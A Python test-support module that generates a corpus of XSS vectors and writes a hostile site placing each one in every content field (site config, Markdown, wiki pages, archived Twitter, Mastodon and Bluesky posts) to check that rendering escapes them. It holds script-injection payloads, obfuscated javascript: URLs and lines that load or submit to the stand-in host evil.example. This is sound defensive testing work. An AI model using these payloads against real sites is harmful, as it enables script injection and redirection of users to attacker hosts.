"""A generated corpus of XSS vectors, and a site that carries them in every field.

Each base payload is one way markup or a URL has been smuggled into a page; the
variants change the function called, the case and what surrounds it, so a filter
that only knows one spelling shows up. Numbered payloads (`alert(17)`,
`//evil.example/17`) tell which vector fired when one does.

`write_site` places every vector in every field that reaches a page, feed or .ics:
site.yaml (title, description, topic names and descriptions), write-up front matter
(title, summary, hosts), Markdown bodies (text, headings, link targets and labels,
image targets, autolinks, code), wiki link labels and wiki page titles, series names
and descriptions, and archived posts (text, author names, handles, permalinks, link
targets and labels, media links and alt text, reply handles, mentions, hashtags,
Mastodon HTML, Bluesky text, display names and link facets). Many vectors share one
page, so the whole corpus builds and loads in seconds.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import yaml

OFF_SITE = "evil.example"

_BASES = (
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=alert({n})>",
    '"><script>alert({n})</script>',
    "'><img src=x onerror=alert({n})>",
    "javascript:alert({n})",
    "JaVaScRiPt:alert({n})",
    "&#106;avascript:alert({n})",
    "&#x6A;avascript&colon;alert({n})",
    "java&#9;script:alert({n})",
    " javascript:alert({n})",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{n}",
    "data:text/html,<script>alert({n})</script>",
    "vbscript:msgbox({n})",
    '<iframe src="javascript:alert({n})"></iframe>',
    '<a href="javascript:alert({n})">x{n}</a>',
    "<body onload=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<style>@import url(//evil.example/{n}.css)</style>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<base href=//evil.example/{n}/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/{n}">',
    "<object data=//evil.example/{n}.swf></object>",
    "<embed src=//evil.example/{n}.swf>",
    "<form action=//evil.example/{n}><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>",
    "]]><script>alert({n})</script><![CDATA[",
    "--><script>alert({n})</script><!--",
    "</title><script>alert({n})</script>",
    "</textarea><script>alert({n})</script>",
    "{{{{7*7}}}} {{% raw %}} {n}",
    "${{alert({n})}}",
    '<img src="//evil.example/{n}.png">',
    "<video><source onerror=alert({n})></video>",
    "<input autofocus onfocus=alert({n})>",
    '<a href="//evil.example/{n}">off-site</a>',
    '" onmouseover="alert({n})',
    "' onfocus='alert({n})' autofocus='",
    '<noscript><p title="</noscript><img src=x onerror=alert({n})>">',
    "<svg><script>alert({n})</script></svg>",
    "<img src=x:alert({n}) onerror=eval(src)>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/"
    "+/[*/[]/+alert({n})//'>",
    "[x{n}](javascript:alert({n}))",
    "![x{n}](javascript:alert({n}))",
    "<javascript:alert({n})>",
    "[x{n}]( JAVASCRIPT:alert({n}) )",
    "[x{n}](&#x6A;avascript:alert({n}))",
    'https://example.org/"onmouseover="alert({n})',
    "https://example.org/<script>alert({n})</script>",
    "https://evil.example/{n}",
)
_VARIANTS = (
    lambda s: s,
    lambda s: s.replace("alert", "confirm"),
    lambda s: s.replace("alert", "prompt"),
    lambda s: f"x{s}y",
    lambda s: s.upper(),
)


def vectors() -> tuple[str, ...]:
    """Every vector, numbered in order, no two alike."""
    out: list[str] = []
    for variant in _VARIANTS:
        for base in _BASES:
            vector = variant(base.format(n=len(out)))
            if vector not in out:
                out.append(vector)
    return tuple(out)


def groups(items: Sequence[str], size: int) -> Iterator[tuple[int, Sequence[str]]]:
    for start in range(0, len(items), size):
        yield start // size, items[start : start + size]


@dataclass
class Placements:
    """What went where: (field, vector) pairs, and the text each page must show."""

    tried: set[tuple[str, str]] = field(default_factory=set)
    # page path -> (CSS selector, exact textContent) that the browser must find
    shown: dict[str, list[tuple[str, str]]] = field(default_factory=dict)

    def put(self, name: str, values: Sequence[str]) -> None:
        self.tried.update((name, v) for v in values)

    def expect(self, page: str, selector: str, text: str) -> None:
        self.shown.setdefault(page, []).append((selector, text))


def _front_matter(data: dict[str, Any], body: str) -> str:
    dumped = yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10**6)
    return f"---\n{dumped}---\n{body}"


def _utf8_slice(text: str, part: str) -> dict[str, int]:
    start = text.encode().index(part.encode())
    return {"byteStart": start, "byteEnd": start + len(part.encode())}


def write_site(root: Path, all_vectors: Sequence[str], per_page: int = 10) -> Placements:
    """Write the hostile site under `root`; return where every vector was put."""
    placed = Placements()
    everything = " ".join(all_vectors)
    files: dict[str, str] = {}
    topics = []
    for g, group in groups(all_vectors, per_page):
        joined = " ".join(group)
        slug = f"2012-02-{g + 1:02d}-hostile" if g < 28 else f"2012-03-{g - 27:02d}-hostile"
        upcoming = g % 2 == 1  # half announce future chats: the upcoming feed and .ics
        date = f"2027-{g % 12 + 1:02d}-{g % 27 + 1:02d}T20:00" if upcoming else slug[:10] + "T20:00"
        if upcoming:
            slug = date[:10] + f"-hostile-{g}"
        topics.append({"name": joined, "slug": f"t{g}", "description": joined})
        placed.put("topic name", group)
        placed.put("topic description", group)
        placed.expect(f"topics/t{g}/index.html", "h1", joined)
        files[f"content/series/s{g}.yaml"] = yaml.safe_dump(
            {
                "name": joined,
                "description": joined,
                "start": date,
                "rrule": "FREQ=YEARLY",
                "count": 1,
            },
            allow_unicode=True,
            width=10**6,
        )
        placed.put("series name", group)
        placed.put("series description", group)
        placed.expect(f"series/s{g}/index.html", "h1", joined)
        body = []
        for i, v in enumerate(group):
            # A relative target names a file beside the write-up, and a missing one is
            # a content error that stops the build (by design); rooted at "/" the same
            # vector is still a link target the renderer must make safe.
            target = v if urlsplit(v.strip()).scheme or v.startswith("/") else f"/{v}"
            body += [
                f"## {v}",
                "",
                v,
                "",
                f"[{v}]({target}) [label {g}-{i}]({target}) ![{v}]({target}) <{v}> `{v}`",
                "",
                f"[[w{g}|{v}]] [[Guide|{v}]]",
                "",
            ]
        placed.put("markdown text and headings", group)
        placed.put("markdown link targets and labels", group)
        placed.put("markdown image targets", group)
        placed.put("markdown autolinks and code", group)
        placed.put("wiki link labels", group)
        body.append(f'{{{{< post "p{g}-0" >}}}}')
        files[f"content/chats/{slug}/index.md"] = _front_matter(
            {
                "title": joined,
                "date": date,
                "summary": joined,
                "hosts": list(group),
                "topics": [f"t{g}"],
                "series": f"s{g}",
                "archive": "bluesky.json",
            },
            "\n".join(body) + "\n",
        )
        placed.put("chat title", group)
        placed.put("chat summary", group)
        placed.put("chat hosts", group)
        placed.expect(f"chats/{slug}/index.html", "h1", joined)
        posts = []
        for i, v in enumerate(group):
            base: dict[str, Any] = {
                "source": "twitter-v2",
                "created_at": f"{date[:10]}T20:{i:02d}:00Z",
            }
            posts += [
                {
                    **base,
                    "id": f"p{g}-{i}",
                    "author_handle": f"poster{g}x{i}",
                    "author_name": v,
                    "text": f"{v} said {v}",
                    "url": v,
                    "links": [{"url": v, "display": v}],
                    "media": [{"url": v, "kind": "photo", "alt": v}],
                    "hashtags": [v],
                    "mentions": [v],
                },
                {
                    **base,
                    "id": f"q{g}-{i}",
                    "author_handle": v,
                    "reply_to_id": f"p{g}-{i}",
                    "reply_to_handle": v,
                    "text": f"reply {g}-{i}",
                },
                {
                    **base,
                    "id": f"m{g}-{i}",
                    "source": "mastodon",
                    "author_handle": f"masto{g}x{i}@social.example",
                    "text": f"mastodon {g}-{i}",
                    "html": f'<p>{v}</p><p><a href="{v}">{v}</a></p>',
                },
            ]
        placed.put("post text", group)
        placed.put("post author names", group)
        placed.put("post handles and reply handles", group)
        placed.put("post permalinks", group)
        placed.put("post link targets and labels", group)
        placed.put("post media links and alt text", group)
        placed.put("post mentions and hashtags", group)
        placed.put("mastodon html", group)
        files[f"content/chats/{slug}/posts.json"] = json.dumps(
            {"chatwiki_archive": 1, "chat": slug, "posts": posts}, ensure_ascii=False
        )
        bluesky = []
        for i, v in enumerate(group):
            text = f"bsky {g}-{i} {v} link"
            did = f"did:plc:hostile{g}x{i}"
            bluesky.append(
                {
                    "uri": f"at://{did}/app.bsky.feed.post/3k{g}x{i}",
                    "cid": f"bafy{g}x{i}",
                    "author": {"did": did, "handle": f"b{g}x{i}.bsky.social", "displayName": v},
                    "record": {
                        "$type": "app.bsky.feed.post",
                        "text": text,
                        "createdAt": f"{date[:10]}T20:{30 + i:02d}:00.000Z",
                        "facets": [
                            {
                                "index": _utf8_slice(text, "link"),
                                "features": [{"$type": "app.bsky.richtext.facet#link", "uri": v}],
                            },
                            {
                                "index": _utf8_slice(text, v),
                                "features": [{"$type": "app.bsky.richtext.facet#link", "uri": v}],
                            },
                        ],
                    },
                    "indexedAt": f"{date[:10]}T20:{30 + i:02d}:00.000Z",
                }
            )
        placed.put("bluesky text and link facets", group)
        placed.put("bluesky display names", group)
        files[f"content/chats/{slug}/bluesky.json"] = json.dumps(
            {"posts": bluesky}, ensure_ascii=False
        )
        files[f"content/wiki/w{g}.md"] = _front_matter(
            {"title": joined, "summary": joined}, "\n\n".join(group) + "\n"
        )
        placed.put("wiki page titles and summaries", group)
        placed.expect(f"wiki/w{g}/index.html", "h1", joined)
    files["content/wiki/guide.md"] = _front_matter({"title": "Guide"}, "The guide.\n")
    files["site.yaml"] = yaml.safe_dump(
        {
            "title": everything,
            "description": everything,
            "base_url": "https://chat.example.org/",
            "timezone": "Europe/London",
            "topics": topics,
        },
        allow_unicode=True,
        sort_keys=False,
        width=10**6,
    )
    placed.put("site title", all_vectors)
    placed.put("site description", all_vectors)
    placed.expect("index.html", "h1", everything)
    for rel, text in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return placed
